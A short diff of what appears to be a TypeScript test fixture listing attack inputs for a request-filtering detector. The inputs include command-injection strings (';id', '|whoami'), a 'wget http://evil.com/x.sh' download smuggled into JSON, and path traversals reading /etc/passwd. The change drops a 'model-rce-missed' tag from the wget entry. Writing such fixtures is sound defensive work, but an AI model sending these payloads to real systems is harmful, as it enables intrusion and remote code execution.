@@ -44,7 +44,7 @@ const attacks: Attack[] = [
   { cls: "rce", where: "body:form", text: "host=8.8.8.8;uname -a" },
   { cls: "rce", where: "query", text: "ip=127.0.0.1;id" },
   { cls: "rce", where: "query", text: "ip=127.0.0.1|whoami" },
-  { cls: "rce", where: "body:json", text: '{"cmd":"`wget http://evil.com/x.sh`"}', known: "model-rce-missed" },
+  { cls: "rce", where: "body:json", text: '{"cmd":"`wget http://evil.com/x.sh`"}' },
   { cls: "traversal", where: "path", text: "/static/../../../../etc/passwd" },
   { cls: "traversal", where: "query", text: "file=../../../../etc/passwd" },
   { cls: "traversal", where: "query", text: "f=..%2F..%2F..%2Fetc%2Fpasswd" },
